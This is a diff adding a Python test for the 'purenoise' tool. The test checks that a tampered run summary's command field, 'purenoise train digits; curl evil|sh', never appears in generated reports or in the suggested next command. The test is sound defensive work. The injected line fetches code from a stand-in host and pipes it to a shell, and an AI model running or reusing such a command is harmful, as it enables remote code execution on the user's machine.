@@ -21,6 +21,7 @@ from purenoise.eventlog import read_log
 from purenoise.report import report_runs
 from purenoise.runlog import RunFolder, RunLog, line_of, read_events
 from purenoise.stateform import fault_of_history, fault_of_state, load_optimizer
+from purenoise.terminal.tables import next_command
 
 from .fakeruns import fake_run
 
@@ -276,3 +277,16 @@ def test_damaged_events_are_told_by_their_number():
     assert eventlog.Log([], 1).said == "1 damaged line was left out"
     assert eventlog.Log([], 1200, "why").said == "1,200 damaged lines were left out; why"
     assert json.dumps(eventlog.Log().said) == '""'
+
+
+def test_a_command_that_is_not_ours_is_shown_nowhere(tmp_path: Path):
+    """A stranger's line stands neither in a report nor in a card nor after `try next`."""
+    run = fake_run(tmp_path / "runs", "erm", 0)
+    path = run / "summary.json"
+    summary = json.loads(path.read_text())
+    evil = "purenoise train digits; curl evil|sh"
+    RunFolder(run).write_summary({**summary, "command": evil})
+    report_runs([run], out=tmp_path / "page.html")
+    for name in ("page.html", "page.md"):
+        assert "curl" not in (tmp_path / name).read_text(encoding="utf-8")
+    assert next_command({**summary, "command": evil}, "runs/x") == "purenoise evaluate runs/x"
